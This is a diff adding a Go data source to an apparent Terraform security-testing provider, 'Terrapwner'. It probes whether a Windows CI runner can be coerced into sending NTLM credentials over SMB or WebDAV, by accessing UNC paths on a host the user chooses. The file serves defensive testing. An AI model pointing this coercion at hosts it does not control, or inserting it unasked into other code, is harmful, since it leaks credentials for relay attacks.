@@ -0,0 +1,243 @@
+// Copyright (c) Datadog, Inc.
+// SPDX-License-Identifier: Apache-2.0
+
+package provider
+
+import (
+	"context"
+	"errors"
+	"fmt"
+	"net"
+	"os"
+	"runtime"
+	"strconv"
+	"syscall"
+	"time"
+
+	"github.com/hashicorp/terraform-plugin-framework/datasource"
+	"github.com/hashicorp/terraform-plugin-framework/datasource/schema"
+	"github.com/hashicorp/terraform-plugin-framework/types"
+)
+
+// Windows error codes returned when a UNC path reaches the authentication stage.
+const (
+	winErrorAccessDenied        = 5
+	winErrorNetworkAccessDenied = 65
+	winErrorLogonFailure        = 1326
+)
+
+// uncAccessSlots bounds the UNC accesses in progress. Windows cannot cancel
+// them, so an access still blocked when its probe times out keeps its slot
+// until Windows gives up on the path.
+var uncAccessSlots = make(chan struct{}, 4)
+
+// Ensure the implementation satisfies the expected interfaces.
+var (
+	_ datasource.DataSource              = &TerrapwnerNTLMRelayProbeDataSource{}
+	_ datasource.DataSourceWithConfigure = &TerrapwnerNTLMRelayProbeDataSource{}
+)
+
+// NewTerrapwnerNTLMRelayProbeDataSource is a helper function to simplify the provider implementation.
+func NewTerrapwnerNTLMRelayProbeDataSource() datasource.DataSource {
+	return &TerrapwnerNTLMRelayProbeDataSource{}
+}
+
+// TerrapwnerNTLMRelayProbeDataSource is the data source implementation.
+type TerrapwnerNTLMRelayProbeDataSource struct{}
+
+// TerrapwnerNTLMRelayProbeDataSourceModel describes the data source data model.
+type TerrapwnerNTLMRelayProbeDataSourceModel struct {
+	TargetHost        types.String `tfsdk:"target_host"`
+	Share             types.String `tfsdk:"share"`
+	WebDAVPort        types.Int64  `tfsdk:"webdav_port"`
+	Timeout           types.Int64  `tfsdk:"timeout"`
+	Supported         types.Bool   `tfsdk:"supported"`
+	SMBReachable      types.Bool   `tfsdk:"smb_reachable"`
+	SMBAuthAttempted  types.Bool   `tfsdk:"smb_auth_attempted"`
+	WebDAVReachable   types.Bool   `tfsdk:"webdav_reachable"`
+	WebDAVAuthAttempt types.Bool   `tfsdk:"webdav_auth_attempted"`
+	FailReason        types.String `tfsdk:"fail_reason"`
+}
+
+// Configure adds the provider configured client to the data source.
+func (d *TerrapwnerNTLMRelayProbeDataSource) Configure(_ context.Context, _ datasource.ConfigureRequest, _ *datasource.ConfigureResponse) {
+	// No configuration needed
+}
+
+// Metadata returns the data source type name.
+func (d *TerrapwnerNTLMRelayProbeDataSource) Metadata(_ context.Context, req datasource.MetadataRequest, resp *datasource.MetadataResponse) {
+	resp.TypeName = req.ProviderTypeName + "_ntlm_relay_probe"
+}
+
+// Tags returns the categories and tags the data source belongs to.
+func (d *TerrapwnerNTLMRelayProbeDataSource) Tags() []string {
+	return []string{categoryNetwork, "credentials"}
+}
+
+// Schema defines the schema for the data source.
+func (d *TerrapwnerNTLMRelayProbeDataSource) Schema(_ context.Context, _ datasource.SchemaRequest, resp *datasource.SchemaResponse) {
+	resp.Schema = schema.Schema{
+		Description: "Tests whether outbound SMB or WebDAV authentication can be coerced from a Windows runner to a given host. " +
+			"The runner accesses a UNC path on the target, which makes Windows offer the runner's credentials if the target answers. " +
+			"Only point this at a safe internal listener you control. On non-Windows runners the probe is reported as unsupported.",
+		Attributes: map[string]schema.Attribute{
+			"target_host": schema.StringAttribute{
+				Description: "Host that receives the coerced authentication attempt (e.g., a controlled internal listener).",
+				Required:    true,
+			},
+			"share": schema.StringAttribute{
+				Description: "Share name used in the UNC path (default: terrapwner).",
+				Optional:    true,
+			},
+			"webdav_port": schema.Int64Attribute{
+				Description: "Port used for the WebDAV UNC path (default: 80).",
+				Optional:    true,
+			},
+			"timeout": schema.Int64Attribute{
+				Description: "Timeout in seconds for each attempt (default: 5).",
+				Optional:    true,
+			},
+			"supported": schema.BoolAttribute{
+				Description: "True if the runner is a Windows host and the probe was performed.",
+				Computed:    true,
+			},
+			"smb_reachable": schema.BoolAttribute{
+				Description: "True if TCP port 445 on the target is reachable.",
+				Computed:    true,
+			},
+			"smb_auth_attempted": schema.BoolAttribute{
+				Description: "True if the SMB UNC access reached the authentication stage, meaning credentials were offered to the target.",
+				Computed:    true,
+			},
+			"webdav_reachable": schema.BoolAttribute{
+				Description: "True if the WebDAV port on the target is reachable.",
+				Computed:    true,
+			},
+			"webdav_auth_attempted": schema.BoolAttribute{
+				Description: "True if the WebDAV UNC access reached the authentication stage, meaning credentials were offered to the target.",
+				Computed:    true,
+			},
+			"fail_reason": schema.StringAttribute{
+				Description: "Reason the probe could not be performed, if any.",
+				Computed:    true,
+			},
+		},
+	}
+}
+
+// Read performs the probe and updates the state.
+func (d *TerrapwnerNTLMRelayProbeDataSource) Read(ctx context.Context, req datasource.ReadRequest, resp *datasource.ReadResponse) {
+	var data TerrapwnerNTLMRelayProbeDataSourceModel
+
+	// Read Terraform configuration data into the model
+	resp.Diagnostics.Append(req.Config.Get(ctx, &data)...)
+	if resp.Diagnostics.HasError() {
+		return
+	}
+
+	// Set default values
+	if data.Share.IsNull() {
+		data.Share = types.StringValue("terrapwner")
+	}
+	if data.WebDAVPort.IsNull() {
+		data.WebDAVPort = types.Int64Value(80)
+	}
+	if data.Timeout.IsNull() {
+		data.Timeout = types.Int64Value(5)
+	}
+
+	if data.TargetHost.ValueString() == "" {
+		resp.Diagnostics.AddError("Invalid target host", "target_host must be specified")
+		return
+	}
+
+	data.SMBReachable = types.BoolValue(false)
+	data.SMBAuthAttempted = types.BoolValue(false)
+	data.WebDAVReachable = types.BoolValue(false)
+	data.WebDAVAuthAttempt = types.BoolValue(false)
+	data.FailReason = types.StringValue("")
+
+	if runtime.GOOS != "windows" {
+		data.Supported = types.BoolValue(false)
+		data.FailReason = types.StringValue(fmt.Sprintf("UNC authentication coercion requires a Windows runner (running on %s)", runtime.GOOS))
+		resp.Diagnostics.Append(resp.State.Set(ctx, &data)...)
+		return
+	}
+	data.Supported = types.BoolValue(true)
+
+	host := data.TargetHost.ValueString()
+	share := data.Share.ValueString()
+	webdavPort := int(data.WebDAVPort.ValueInt64())
+	timeout := time.Duration(data.Timeout.ValueInt64()) * time.Second
+
+	// SMB over 445
+	data.SMBReachable = types.BoolValue(tcpReachable(host, 445, timeout))
+	if data.SMBReachable.ValueBool() {
+		smbPath := fmt.Sprintf(`\\%s\%s\terrapwner.txt`, host, share)
+		data.SMBAuthAttempted = types.BoolValue(uncAuthAttempted(ctx, smbPath, timeout))
+	}
+
+	// WebDAV through the WebClient service
+	data.WebDAVReachable = types.BoolValue(tcpReachable(host, webdavPort, timeout))
+	if data.WebDAVReachable.ValueBool() {
+		webdavPath := fmt.Sprintf(`\\%s@%d\DavWWWRoot\%s\terrapwner.txt`, host, webdavPort, share)
+		data.WebDAVAuthAttempt = types.BoolValue(uncAuthAttempted(ctx, webdavPath, timeout))
+	}
+
+	// Save data into Terraform state
+	resp.Diagnostics.Append(resp.State.Set(ctx, &data)...)
+}
+
+// tcpReachable reports whether a TCP connection to host:port can be established.
+func tcpReachable(host string, port int, timeout time.Duration) bool {
+	conn, err := net.DialTimeout("tcp", net.JoinHostPort(host, strconv.Itoa(port)), timeout)
+	if err != nil {
+		return false
+	}
+	conn.Close()
+	return true
+}
+
+// uncAuthAttempted accesses a UNC path and reports whether the access reached
+// the authentication stage. The access runs in a goroutine because Windows may
+// block for a long time on unreachable shares and the access cannot be
+// cancelled: the goroutine outlives the timeout until Windows gives up, which
+// uncAccessSlots bounds.
+func uncAuthAttempted(ctx context.Context, path string, timeout time.Duration) bool {
+	ctx, cancel := context.WithTimeout(ctx, timeout)
+	defer cancel()
+
+	select {
+	case uncAccessSlots <- struct{}{}:
+	case <-ctx.Done():
+		return false
+	}
+	done := make(chan error, 1)
+	go func() {
+		defer func() { <-uncAccessSlots }()
+		_, err := os.Stat(path)
+		done <- err
+	}()
+
+	select {
+	case err := <-done:
+		return isAuthStageError(err)
+	case <-ctx.Done():
+		return false
+	}
+}
+
+// isAuthStageError reports whether err indicates the remote side handled
+// authentication, by rejecting the logon or the access. Other outcomes,
+// success included, do not tell whether credentials were sent.
+func isAuthStageError(err error) bool {
+	var errno syscall.Errno
+	if !errors.As(err, &errno) {
+		return false
+	}
+	switch errno {
+	case winErrorAccessDenied, winErrorNetworkAccessDenied, winErrorLogonFailure:
+		return true
+	}
+	return false
+}